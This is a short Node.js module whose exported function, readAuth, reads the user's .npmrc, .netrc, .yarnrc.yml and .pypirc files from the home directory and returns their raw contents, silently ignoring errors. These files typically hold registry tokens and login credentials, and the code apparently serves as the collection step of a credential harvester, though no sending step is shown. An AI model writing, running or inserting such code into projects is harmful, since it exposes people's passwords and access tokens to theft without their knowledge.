const fs = require('fs');
const os = require('os');
const path = require('path');

function readAuth() {
  const out = {};
  for (const f of ['.npmrc', '.netrc', '.yarnrc.yml', '.pypirc']) {
    try { out[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (_) {}
  }
  return out;
}

module.exports = { readAuth };
